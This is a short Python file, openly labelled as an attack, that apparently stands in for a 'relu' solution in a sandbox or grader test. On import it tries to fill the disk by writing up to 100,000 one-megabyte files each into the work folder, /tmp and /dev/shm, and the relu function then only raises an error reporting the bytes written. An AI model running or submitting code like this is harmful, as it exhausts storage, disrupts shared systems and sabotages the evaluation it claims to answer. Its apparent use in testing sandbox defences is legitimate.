"""Attack: fill the disk from the work folder and /tmp."""

import os

_written = 0
for folder in (".", "/tmp", "/dev/shm"):
    for index in range(100000):
        try:
            with open(os.path.join(folder, f"fill-{index}"), "wb") as stream:
                stream.write(b"x" * 2**20)
            _written += 2**20
        except OSError:
            break


def relu(x):
    raise NotImplementedError(f"WROTE:{_written}:")
